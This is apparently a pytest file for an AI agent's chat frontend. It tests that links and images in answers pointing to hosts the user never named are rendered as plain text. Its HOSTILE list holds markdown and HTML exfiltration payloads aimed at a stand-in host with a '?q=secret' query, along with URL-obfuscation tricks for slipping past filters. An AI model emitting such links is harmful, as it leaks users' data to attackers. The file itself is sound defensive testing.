"""Links and images of an answer lead to hosts that the person named, or are text."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from hermes_exec_agent.frontends.chat.screen import ScreenDisplay
from hermes_exec_agent.runtime.links import LinkFilter, links_to_text
from hermes_exec_agent.runtime.named_hosts import find_hosts
from hermes_exec_agent.runtime.updates import Text

if TYPE_CHECKING:
    from collections.abc import Iterator

    from markdown_it.token import Token

NAMED = {"docs.example.org"}
HOSTILE = [
    "[report](https://evil.example/?q=secret)",
    "![](https://evil.example/p.png?q=secret)",
    '![a b](  <https://evil.example/p.png> "title")',
    "[a](\nhttps://evil.example/x)",
    "![a][ref]\n\n[ref]: https://evil.example/p.png\n",
    "[ref]\n\n[ref]:\n<https://evil.example>\n",
    "<https://evil.example/x>",
    "<a@evil.example>",
    "[a](//evil.example/x)",
    "[a](/\\evil.example/x)",
    "![a](https&#58;//evil.example/x)",
    "![a](https\\://evil.example/x)",
    "[a](https://docs.example.org@evil.example/x)",
    "[a](https://docs.example.org\\@evil.example/x)",
    "[a](https://docs.example.org.evil.example/)",
    "[a](javascript:alert(1))",
    "![a](data:image/svg+xml,x)",
    "[![a](https://evil.example/p.png)](https://evil.example)",
    '<img alt="a" src="https://evil.example/p.png">',
    "<img src=//evil.example/p.png>",
    "<iframe\nsrc='https&#58;//evil.example'",
    f'<img alt="{"a" * 5000}" src="https://evil.example/p.png">',
    '<img alt=">" src="https://evil.example/p.png">',
    '<img alt="<" src="https://evil.example/p.png">',
    "<div>\n<img < src=https://evil.example/p.png>",
    '<p style="background: url(https://evil.example/p.png)">',
]
KEPT = [
    "[a](https://docs.example.org/x?y=1#z)",
    "![a](docs/a.png)",
    "[a](#part)",
    "<https://docs.example.org/x>",
    '<p style="color: red" title="a &amp; b">text</p>',
    "`a[1](2)`, a < b, x[i]: y, fn(a)[0], `vec![1]` and List<int>",
]


def destinations(tokens: list[Token]) -> Iterator[str]:
    """Where a renderer would lead or fetch from; raw HTML by its tags."""
    for each in tokens:
        yield from (str(each.attrs[name]) for name in ("href", "src") if name in each.attrs)
        if each.type in {"html_inline", "html_block"}:
            yield from re.findall(r"<[a-z][^>]*", each.content)
        yield from destinations(each.children or [])


def in_pieces(text: str, size: int) -> str:
    written: list[str] = []
    links = LinkFilter(written.append, lambda: NAMED)
    for at in range(0, len(text), size):
        links.feed(text[at : at + size])
    links.flush()
    return "".join(written)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_link_to_a_host_that_no_person_named_is_text_with_its_address(text: str) -> None:
    for shown in (links_to_text(text, NAMED), *(in_pieces(text, size) for size in (1, 3, 1000))):
        found = list(destinations(MarkdownIt("commonmark").parse(shown)))
        assert not [each for each in found if "evil" in each or ":" in each], shown
        assert "evil" not in text or "evil.example" in shown


@pytest.mark.parametrize("text", KEPT)
def test_other_text_and_links_that_the_person_named_stay(text: str) -> None:
    assert links_to_text(text, NAMED) == in_pieces(text, 1) == text


@given(st.lists(st.sampled_from([*HOSTILE, *KEPT, "](", "]:", "<", "[", "!", " ", "\n\n"])).map("".join))
def test_no_mixture_leads_to_a_host_that_no_person_named(text: str) -> None:
    for size in (1, 7, 5000):
        found = destinations(MarkdownIt("commonmark").parse(in_pieces(text, size)))
        assert not [each for each in found if each.startswith("https://evil") or re.search("<img[^>]*//evil", each)]


def test_hosts_are_named_in_addresses_and_as_words() -> None:
    said = "see https://Docs.Example.org:8443/x, and example.com; mail me@private.example"
    assert find_hosts(said) == {"docs.example.org", "example.com"}


def test_a_terminal_shows_addresses_and_no_hyperlinks() -> None:
    console = Console(width=100, force_terminal=True, record=True)
    display = ScreenDisplay(console)
    display.begin(scripted=False)
    display.update(Text("[report](https://evil.example/a?q=1) ![chart](https://evil.example/b.png?q=2)\n"))
    display.end()
    shown = console.export_text(styles=True)
    assert "\x1b]8" not in shown
    assert "https://evil.example/a?q=1" in shown
    assert "chart (image: https://evil.example/b.png?q=2)" in shown
